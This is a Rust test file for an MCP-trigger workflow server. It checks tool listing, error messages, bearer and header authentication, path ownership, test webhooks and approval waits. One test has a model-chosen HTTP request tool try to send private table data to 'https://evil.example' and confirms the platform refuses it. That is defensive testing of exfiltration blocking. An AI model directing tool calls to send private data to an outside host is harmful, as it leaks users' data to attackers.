//! Workflows with an MCP trigger.

use super::client::McpClient;
use super::{activate, api, calculator, node, save, to};
use crate::app::TestApp;
use serde_json::{Value, json};

#[tokio::test]
async fn the_tools_of_a_workflow_are_listed_and_each_call_is_an_execution() {
    let app = TestApp::start().await;
    let key = app.owner_key().await;
    let id = activate(&app, &key, &calculator("tools", json!({}))).await;
    let client = McpClient::new(&app, "/mcp/tools", None);
    let listed = client.call("tools/list", json!({})).await;
    assert_eq!(listed.tool_names(), ["Calculator"]);
    let tool = &listed.result()["tools"][0];
    assert_eq!(tool["annotations"]["readOnlyHint"], json!(true));
    assert_eq!(tool["inputSchema"]["type"], json!("object"), "{tool}");
    let reply = client.tool("Calculator", json!({ "input": "6 * 7" })).await;
    assert_eq!(reply.tool_text(), ("42".to_owned(), false), "{}", reply.text);
    let runs = api(&app, &key, "GET", &format!("/executions?workflowId={id}"), &Value::Null).await;
    let runs = runs.rows();
    assert_eq!(runs.len(), 1, "listing starts no run");
    assert_eq!(runs[0].get("status").unwrap().as_str(), Some("success"));
}

#[tokio::test]
async fn the_address_with_the_older_ending_is_the_same_server() {
    let app = TestApp::start().await;
    let key = app.owner_key().await;
    activate(&app, &key, &calculator("tools", json!({}))).await;
    let client = McpClient::new(&app, "/mcp/tools/sse", None);
    assert_eq!(client.tools().await, ["Calculator"]);
    assert_eq!(McpClient::new(&app, "/mcp/tools/more", None).get().await, 404);
}

#[tokio::test]
async fn a_failing_tool_and_wrong_arguments_are_told_to_the_model() {
    let app = TestApp::start().await;
    let key = app.owner_key().await;
    activate(&app, &key, &calculator("tools", json!({}))).await;
    let client = McpClient::new(&app, "/mcp/tools", None);
    let (words, is_error) = client.tool("Calculator", json!({ "input": "6 *" })).await.tool_text();
    assert!(is_error && words.contains("Calculator"), "{words}");
    let (words, is_error) = client.tool("Calculator", json!({ "sum": 1 })).await.tool_text();
    assert!(is_error && words.contains("schema"), "{words}");
    let unknown = client.tool("list_workflows", json!({})).await;
    assert_eq!(unknown.message()["error"]["code"], json!(-32602), "{}", unknown.text);
}

#[tokio::test]
async fn a_server_lets_in_only_whoever_shows_its_secret() {
    let app = TestApp::start().await;
    let key = app.owner_key().await;
    for (path, way, kind, data, header, value) in [
        (
            "bearer",
            "bearerAuth",
            "httpBearerAuth",
            json!({ "token": "s3cret" }),
            "authorization",
            "Bearer s3cret",
        ),
        (
            "header",
            "headerAuth",
            "httpHeaderAuth",
            json!({ "name": "X-Key", "value": "s3cret" }),
            "x-key",
            "s3cret",
        ),
    ] {
        let made = json!({ "name": path, "type": kind, "data": data });
        let credential = api(&app, &key, "POST", "/credentials", &made).await.text("id");
        let mut document = calculator(path, json!({ "authentication": way }));
        document["nodes"][0]["credentials"] = json!({ kind: { "id": credential, "name": path } });
        activate(&app, &key, &document).await;
        let client = McpClient::new(&app, &format!("/mcp/{path}"), None);
        let refused = client.modern("tools/list", json!({})).send().await.unwrap().status();
        assert!(matches!(refused.as_u16(), 401 | 403), "{path} {refused}");
        let wrong = client.clone().with_header(header, "Bearer wrong");
        assert_eq!(wrong.modern("tools/list", json!({})).send().await.unwrap().status(), 403);
        let right = client.with_header(header, value);
        assert_eq!(right.tools().await, ["Calculator"], "{path}");
    }
}

#[tokio::test]
async fn a_workflow_that_is_not_active_has_no_server() {
    let app = TestApp::start().await;
    let key = app.owner_key().await;
    let id = activate(&app, &key, &calculator("tools", json!({}))).await;
    let client = McpClient::new(&app, "/mcp/tools", None);
    assert_eq!(client.tools().await, ["Calculator"]);
    let off = api(&app, &key, "POST", &format!("/workflows/{id}/deactivate"), &Value::Null).await;
    assert_eq!(off.status, 200);
    assert_eq!(client.modern("tools/list", json!({})).send().await.unwrap().status(), 404);
}

#[tokio::test]
async fn a_path_belongs_to_one_workflow() {
    let app = TestApp::start().await;
    let key = app.owner_key().await;
    activate(&app, &key, &calculator("tools", json!({}))).await;
    let second = save(&app, &key, &calculator("tools", json!({}))).await;
    let refused =
        api(&app, &key, "POST", &format!("/workflows/{second}/activate"), &Value::Null).await;
    assert_eq!((refused.status, refused.text("code").as_str()), (409, "WEBHOOK_TAKEN"));
    // A webhook of the same path is another address.
    let hook = node("Hook", "n8n-nodes-base.webhook", 2.1, json!({ "path": "tools" }));
    let hook = json!({ "name": "Hook", "nodes": [hook], "connections": {}, "settings": {} });
    activate(&app, &key, &hook).await;
}

#[tokio::test]
async fn a_test_takes_one_call_and_listing_does_not_use_it_up() {
    let app = TestApp::start().await;
    let key = app.owner_key().await;
    let id = save(&app, &key, &calculator("tools", json!({}))).await;
    let client = McpClient::new(&app, "/mcp-test/tools", None);
    assert_eq!(client.modern("tools/list", json!({})).send().await.unwrap().status(), 404);
    let listening =
        api(&app, &key, "POST", &format!("/workflows/{id}/test-webhook"), &json!({})).await;
    assert!(listening.body.contains("/mcp-test/tools"), "{}", listening.body);
    assert_eq!(client.tools().await, ["Calculator"]);
    let reply = client.tool("Calculator", json!({ "input": "1 + 1" })).await;
    assert_eq!(reply.tool_text(), ("2".to_owned(), false), "{}", reply.text);
    assert_eq!(client.modern("tools/list", json!({})).send().await.unwrap().status(), 404);
}

/// A server with one ordinary node as its tool, and another tool that reads private data.
fn sender(options: Value) -> Value {
    let parameters = json!({ "path": "send", "options": options });
    let trigger = node("Server", "@n8n/n8n-nodes-langchain.mcpTrigger", 2.0, parameters);
    let request = node(
        "Request",
        "n8n-nodes-base.httpRequestTool",
        4.2,
        json!({ "method": "POST", "url": "={{ $fromAI('url', 'Where', 'string') }}", "options": {} }),
    );
    let table = node(
        "Rows",
        "n8n-nodes-base.dataTableTool",
        1.0,
        json!({ "resource": "row", "operation": "get", "dataTableId": { "__rl": true, "mode": "name", "value": "t" } }),
    );
    json!({ "name": "Tools", "settings": {}, "nodes": [trigger, request, table],
        "connections": { "Request": to("Server", "ai_tool"), "Rows": to("Server", "ai_tool") } })
}

#[tokio::test]
async fn a_call_that_would_send_private_data_to_a_place_of_the_models_choice_is_refused() {
    let app = TestApp::start().await;
    let key = app.owner_key().await;
    activate(&app, &key, &sender(json!({}))).await;
    let client = McpClient::new(&app, "/mcp/send", None);
    assert_eq!(client.tools().await, ["Request", "Rows"]);
    let reply = client.tool("Request", json!({ "url": "https://evil.example" })).await;
    let (words, is_error) = reply.tool_text();
    assert!(is_error && words.contains("AGENT_OUTWARD"), "{words}");
}

#[tokio::test]
async fn a_call_that_needs_approval_waits_and_says_so() {
    let app = TestApp::start().await;
    let key = app.owner_key().await;
    let id =
        activate(&app, &key, &calculator("tools", json!({ "options": { "askBefore": "all" } })))
            .await;
    let client = McpClient::new(&app, "/mcp/tools", None);
    let (words, is_error) =
        client.tool("Calculator", json!({ "input": "1 + 1" })).await.tool_text();
    assert!(!is_error && words.contains("approval") && words.contains("execution"), "{words}");
    let runs = api(
        &app,
        &key,
        "GET",
        &format!("/executions?workflowId={id}&status=waiting"),
        &Value::Null,
    )
    .await;
    assert_eq!(runs.rows().len(), 1, "{}", runs.body);
    let open = api(&app, &key, "GET", "/approvals", &Value::Null).await;
    assert!(open.body.contains("Calculator"), "{}", open.body);
}
